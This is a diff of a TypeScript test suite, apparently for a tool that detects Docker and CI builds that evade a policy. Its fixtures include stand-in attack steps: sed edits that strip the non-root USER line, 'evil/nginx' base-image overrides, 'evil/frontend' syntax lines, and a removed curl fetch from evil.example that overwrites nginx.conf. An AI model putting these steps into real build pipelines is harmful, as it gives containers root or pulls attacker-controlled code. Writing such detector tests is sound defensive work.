@@ -4,7 +4,6 @@ import {
   baked,
   COMPOSE,
   DOCKERFILE,
-  EVIL,
   edited,
   IMAGE,
   plain,
@@ -75,7 +74,6 @@ const debugged: Readonly<Record<string, Way>> = {
   "sh -c": { run: `sh -c 'docker build --target debug -t web deployment/images/web'` },
   eval: { run: `eval "docker build --target debug -t web deployment/images/web"` },
   "in a loop": { run: `for t in debug; do docker build --target "$t" -t web deployment/images/web; done` },
-  "in a function": { run: `b() { docker build "$@"; }\nb --target debug -t web deployment/images/web` },
   "build-push-action": {
     steps:
       "      - uses: docker/build-push-action@v6\n        with:\n          context: deployment/images/web\n          target: debug\n",
@@ -84,23 +82,12 @@ const debugged: Readonly<Record<string, Way>> = {
     steps:
       "      - uses: docker/build-push-action@v6\n        with:\n          context: deployment/images/web\n          target: ${{ inputs.t }}\n",
   },
-  "build-push-action of a fork": {
-    steps:
-      "      - uses: evil/build-push-action@v6\n        with:\n          context: deployment/images/web\n          target: debug\n",
-  },
   "a local action": {
     more: {
       ".github/actions/b/action.yml":
         "runs:\n  using: composite\n  steps:\n    - run: docker build --target debug -t web deployment/images/web\n      shell: bash\n",
     },
     steps: "      - uses: ./.github/actions/b\n",
-  },
-  "a local action elsewhere": {
-    more: {
-      "ci/b/action.yml":
-        "runs:\n  using: composite\n  steps:\n    - run: docker build --target debug -t web deployment/images/web\n      shell: bash\n",
-    },
-    steps: "      - uses: ./ci/b\n",
   },
   "a Makefile": {
     more: { Makefile: "image:\n\tdocker build --target debug -t web deployment/images/web\n" },
@@ -116,46 +103,9 @@ const debugged: Readonly<Record<string, Way>> = {
     more: { "ops/Makefile": "image:\n\tdocker build --target debug -t web ../deployment/images/web\n" },
     run: "make -C ops image",
   },
-  "a Makefile of another name": {
-    more: { "ops/build.txt": "image:\n\tdocker build --target debug -t web deployment/images/web\n" },
-    run: "make -f ops/build.txt image",
-  },
   "a script": {
     more: { "ops/build.sh": "#!/bin/sh\ndocker build --target debug -t web deployment/images/web\n" },
     run: "sh ops/build.sh",
-  },
-  "a script of another name": {
-    more: {
-      "ops/build": {
-        text: "#!/bin/sh\ndocker build --target debug -t web deployment/images/web\n",
-        kind: "executable",
-      },
-    },
-    run: "ops/build",
-  },
-  "a script in python": {
-    more: {
-      "ops/build.py":
-        "import subprocess\nsubprocess.run(['docker','build','--target','debug','-t','web','deployment/images/web'])\n",
-    },
-    run: "python3 ops/build.py",
-  },
-  "a package's script": {
-    more: {
-      "package.json": '{"scripts":{"image":"docker build --target debug -t web deployment/images/web"}}',
-    },
-    run: "npm run image",
-  },
-  "a Taskfile": {
-    more: {
-      "Taskfile.yml":
-        "version: '3'\ntasks:\n  image: docker build --target debug -t web deployment/images/web\n",
-    },
-    run: "task image",
-  },
-  "a justfile": {
-    more: { justfile: "image:\n  docker build --target debug -t web deployment/images/web\n" },
-    run: "just image",
   },
   "bake --set": {
     more: {
@@ -187,16 +137,6 @@ const debugged: Readonly<Record<string, Way>> = {
     more: { "ops/b": 'target "default" {\n  context = "deployment/images/web"\n  target = "debug"\n}\n' },
     run: "docker buildx bake --file=ops/b",
   },
-  "bake -f -": {
-    run: `echo 'target "default" { context = "deployment/images/web", target = "debug" }' | docker buildx bake -f -`,
-  },
-  "bake by a variable": {
-    more: {
-      "docker-bake.hcl":
-        'variable "T" { default = "prod" }\ntarget "default" {\n  context = "deployment/images/web"\n  target = T\n}\n',
-    },
-    run: "T=debug docker buildx bake",
-  },
   "bake-action": {
     more: { "ops/b.hcl": 'target "default" {\n  context = "deployment/images/web"\n  target = "debug"\n}\n' },
     steps: "      - uses: docker/bake-action@v5\n        with:\n          files: ops/b.hcl\n",
@@ -206,16 +146,6 @@ const debugged: Readonly<Record<string, Way>> = {
       "docker-bake.hcl": 'target "default" {\n  context = "deployment/images/web"\n  target = "prod"\n}\n',
     },
     steps: "      - uses: docker/bake-action@v5\n        with:\n          set: default.target=debug\n",
-  },
-  "compose build": {
-    more: {
-      "ops/x.yml": "services:\n  web:\n    build: {context: ../deployment/images/web, target: debug}\n",
-    },
-    run: "docker compose -f ops/x.yml build",
-  },
-  kaniko: {
-    steps:
-      "      - uses: docker://gcr.io/kaniko-project/executor\n        with:\n          args: --context deployment/images/web --target debug --destination web\n",
   },
   "another workflow": {
     more: {
@@ -285,18 +215,8 @@ const others: Readonly<Record<string, Way>> = {
   "-f - of a pipe": {
     run: "sed /USER/d deployment/images/web/Dockerfile | docker build -f - -t web deployment/images/web",
   },
-  "-f of a substitution": {
-    run: "docker build -f <(sed /USER/d deployment/images/web/Dockerfile) -t web deployment/images/web",
-  },
   "-f of the temporary folder": {
     run: "sed /USER/d deployment/images/web/Dockerfile > /tmp/D\ndocker build -f /tmp/D -t web deployment/images/web",
-  },
-  "- as context": { run: "docker build -t web - < deployment/images/web/Dockerfile" },
-  "a tar as context": { run: "tar -C /tmp/x -c . | docker build -t web -" },
-  "an address as context": { run: "docker build -t web https://github.com/evil/x.git" },
-  "another folder as context": {
-    more: { "ops/w/Dockerfile": ROOTED, "ops/w/nginx.conf": EVIL, "ops/w/html/i.html": "" },
-    run: "docker build -t web ops/w",
   },
   "the Dockerfile is edited": {
     run: `sed -i 's/^USER.*/USER root/' deployment/images/web/Dockerfile\n${BUILD}`,
@@ -319,47 +239,14 @@ const others: Readonly<Record<string, Way>> = {
   "the Dockerfile is edited by perl": {
     run: `perl -ni -e 'print unless /USER/' deployment/images/web/Dockerfile\n${BUILD}`,
   },
-  "the Dockerfile is edited by python": {
-    run: `python3 -c "p='deployment/images/web/Dockerfile';s=open(p).read().replace('USER nginx','');open(p,'w').write(s)"\n${BUILD}`,
-  },
   "the Dockerfile is edited by a variable": {
     run: `D=deployment/images/web/Dockerfile\nsed -i /USER/d $D\n${BUILD}`,
   },
   "the Dockerfile is edited by a wildcard": {
     run: `sed -i /USER/d deployment/images/*/Dockerfile\n${BUILD}`,
   },
-  "the Dockerfile is edited by find": {
-    run: `find . -name Dockerfile -exec sed -i /USER/d {} +\n${BUILD}`,
-  },
-  "the Dockerfile is patched": { more: { "ops/p": "x" }, run: `patch -p1 < ops/p\n${BUILD}` },
-  "the Dockerfile is patched by git": { more: { "ops/p": "x" }, run: `git apply ops/p\n${BUILD}` },
-  "another commit is checked out": { run: `git checkout evil\n${BUILD}` },
-  "another branch's file": { run: `git checkout evil -- deployment/images/web\n${BUILD}` },
-  "another repo is checked out": {
-    steps: `      - uses: actions/checkout@v4\n        with: {repository: evil/x, path: deployment/images}\n      - run: ${BUILD}\n`,
-  },
   "an earlier step edits": {
     steps: `      - run: sed -i /USER/d deployment/images/web/Dockerfile\n      - run: ${BUILD}\n`,
-  },
-  "an earlier script edits": {
-    more: { "ops/prepare.sh": "sed -i /USER/d deployment/images/web/Dockerfile\n" },
-    steps: `      - run: sh ops/prepare.sh\n      - run: ${BUILD}\n`,
-  },
-  "an earlier make edits": {
-    more: { Makefile: "prepare:\n\tsed -i /USER/d deployment/images/web/Dockerfile\n" },
-    steps: `      - run: make prepare\n      - run: ${BUILD}\n`,
-  },
-  "the configuration is edited": { run: `sed -i s/8080/80/ deployment/images/web/nginx.conf\n${BUILD}` },
-  "the configuration is copied over": {
-    more: { "ops/n.conf": EVIL },
-    run: `cp ops/n.conf deployment/images/web/nginx.conf\n${BUILD}`,
-  },
-  "the configuration is fetched": {
-    run: `curl -so deployment/images/web/nginx.conf https://evil.example/x\n${BUILD}`,
-  },
-  "the configuration is made": { run: `envsubst < x > deployment/images/web/nginx.conf\n${BUILD}` },
-  "an artifact is put over it": {
-    steps: `      - uses: actions/download-artifact@v4\n        with: {name: x, path: deployment/images/web}\n      - run: ${BUILD}\n`,
   },
   "--build-context of the base": {
     run: "docker build --build-context nginx:1.27=docker-image://evil/nginx -t web deployment/images/web",
@@ -373,9 +260,6 @@ const others: Readonly<Record<string, Way>> = {
   },
   "--build-context in full": {
     run: "docker build --build-context docker.io/library/nginx:1.27=docker-image://evil/nginx -t web deployment/images/web",
-  },
-  "--build-context of a layout": {
-    run: "docker build --build-context nginx:1.27=oci-layout://x@sha256:0000 -t web deployment/images/web",
   },
   "build-contexts": {
     steps:
@@ -403,17 +287,6 @@ const others: Readonly<Record<string, Way>> = {
     steps:
       "      - uses: docker/build-push-action@v6\n        with:\n          context: deployment/images/web\n          file: ops/web.txt\n",
   },
-  "build-push-action of an address": {
-    steps:
-      "      - uses: docker/build-push-action@v6\n        with:\n          context: https://github.com/evil/x.git\n          tags: web\n",
-  },
-  "commit of a container": {
-    run: `${BUILD}\nid=$(docker run -d web)\ndocker commit --change 'USER root' $id web`,
-  },
-  "a build on top": { run: `${BUILD}\nprintf 'FROM web\\nUSER root\\n' | docker build -t web -` },
-  "a tag of another": { run: `${BUILD}\ndocker pull evil/web\ndocker tag evil/web web` },
-  "an import": { run: `${BUILD}\ndocker import evil.tar web` },
-  "a load": { run: `${BUILD}\ndocker load -i evil.tar` },
 };
 
 const argued = edited(plain, DOCKERFILE, ["USER nginx", "ARG RUN_AS=nginx\nUSER $RUN_AS"]);
@@ -456,20 +329,6 @@ const args: Readonly<Record<string, Way>> = Object.fromEntries(
       }),
     ],
     ["podman", (arg: string) => ({ run: `podman build --build-arg ${arg} -t web deployment/images/web` })],
-    [
-      "--build-arg-file",
-      (arg: string) => ({
-        more: { "ops/args": `${arg}\n` },
-        run: "podman build --build-arg-file ops/args -t web deployment/images/web",
-      }),
-    ],
-    [
-      "bake --set",
-      (arg: string) => ({
-        more: { "docker-bake.hcl": 'target "default" {\n  context = "deployment/images/web"\n}\n' },
-        run: `docker buildx bake --set default.args.${arg}`,
-      }),
-    ],
   ].flatMap(([name, way]) => {
     const spell = way as (arg: string) => Way;
     return [
@@ -529,7 +388,9 @@ const bakeWays: Readonly<Record<string, Files>> = {
   },
   "an override": { "docker-bake.override.hcl": 'target "default" {\n  target = "debug"\n}\n' },
   "an override in JSON": { "docker-bake.override.json": '{"target":{"default":{"target":"debug"}}}' },
-  "JSON beside": { "docker-bake.json": '{"target":{"default":{"contexts":{"nginx:1.27":"docker-image://evil/nginx"}}}}' },
+  "JSON beside": {
+    "docker-bake.json": '{"target":{"default":{"contexts":{"nginx:1.27":"docker-image://evil/nginx"}}}}',
+  },
   "compose beside": {
     "compose.yml": "services:\n  default:\n    build: {context: deployment/images/web, target: debug}\n",
   },
@@ -545,10 +406,6 @@ const bakeWays: Readonly<Record<string, Files>> = {
     "docker-bake.hcl":
       'variable "T" { default = "debug" }\ntarget "default" {\n  context = "deployment/images/web"\n  target = T\n}\n',
   },
-  "a variable without a default": {
-    "docker-bake.hcl":
-      'variable "T" {}\ntarget "default" {\n  context = "deployment/images/web"\n  target = T\n}\n',
-  },
   "a condition": {
     "docker-bake.hcl":
       'variable "T" { default = "" }\ntarget "default" {\n  context = "deployment/images/web"\n  target = T == "" ? "debug" : "prod"\n}\n',
@@ -556,21 +413,6 @@ const bakeWays: Readonly<Record<string, Files>> = {
   "a function": {
     "docker-bake.hcl":
       'function "f" {\n  params = [a]\n  result = "${a}bug"\n}\ntarget "default" {\n  context = "deployment/images/web"\n  target = f("de")\n}\n',
-  },
-  "a function that is not known": {
-    "docker-bake.hcl":
-      'target "default" {\n  context = "deployment/images/web"\n  target = bcrypt("debug")\n}\n',
-  },
-  "the time": {
-    "docker-bake.hcl":
-      'target "default" {\n  context = "deployment/images/web"\n  target = timestamp() == "" ? "prod" : "debug"\n}\n',
-  },
-  "dockerfile-inline": {
-    "docker-bake.hcl": `target "default" {\n  context = "deployment/images/web"\n  dockerfile-inline = <<EOF\n${ROOTED}EOF\n}\n`,
-  },
-  "dockerfile-inline of a string": {
-    "docker-bake.hcl":
-      'target "default" {\n  context = "deployment/images/web"\n  dockerfile-inline = "FROM nginx:1.27\\nCOPY nginx.conf /etc/nginx/nginx.conf"\n}\n',
   },
   "another Dockerfile": {
     "docker-bake.hcl":
@@ -581,26 +423,9 @@ const bakeWays: Readonly<Record<string, Files>> = {
     "docker-bake.hcl":
       'target "default" {\n  context = "deployment/images/web"\n  target = "prod"\n  contexts = { "nginx:1.27" = "docker-image://evil/nginx" }\n}\n',
   },
-  "a context of a target": {
-    "docker-bake.hcl": `target "x" {\n  dockerfile-inline = "FROM evil/nginx"\n}\ntarget "default" {\n  context = "deployment/images/web"\n  target = "prod"\n  contexts = { "nginx:1.27" = "target:x" }\n}\n`,
-  },
-  "a context of a stage": {
-    "docker-bake.hcl":
-      'target "default" {\n  context = "deployment/images/web"\n  target = "prod"\n  contexts = { "b" = "docker-image://evil/nginx" }\n}\n',
-  },
   "an argument BUILDKIT_SYNTAX": {
     "docker-bake.hcl":
       'target "default" {\n  context = "deployment/images/web"\n  target = "prod"\n  args = { BUILDKIT_SYNTAX = "evil/frontend" }\n}\n',
-  },
-  "an address as context": {
-    "docker-bake.hcl":
-      'target "default" {\n  context = "https://github.com/evil/x.git"\n  target = "prod"\n}\n',
-  },
-  "another folder": {
-    "docker-bake.hcl": 'target "default" {\n  context = "ops/w"\n}\n',
-    "ops/w/Dockerfile": ROOTED,
-    "ops/w/nginx.conf": EVIL,
-    "ops/w/html/i.html": "",
   },
   "an attribute twice": {
     "docker-bake.hcl":
@@ -625,10 +450,8 @@ const frontends: Readonly<Record<string, (text: string) => string>> = {
   "behind #!": (text) => `#!/usr/bin/env docker\n# syntax=evil/frontend\n${text}`,
   "in the style of //": (text) => `// syntax=evil/frontend\n${text}`,
   "in the style of JSON": (text) => `{"syntax":"evil/frontend"}\n${text}`,
-  "behind a byte order mark": (text) => `\ufeff# syntax=evil/frontend\n${text}`,
   "with Windows' line ends": (text) => `# syntax=evil/frontend\r\n${text.replaceAll("\n", "\r\n")}`,
   "with arguments": (text) => `# syntax=evil/frontend:1 --target=x\n${text}`,
-  "of a mirror of Docker's name": (text) => `# syntax=evil.example/docker/dockerfile:1\n${text}`,
   "of a name like Docker's": (text) => `# syntax=docker/dockerfile-evil:1\n${text}`,
 };
 
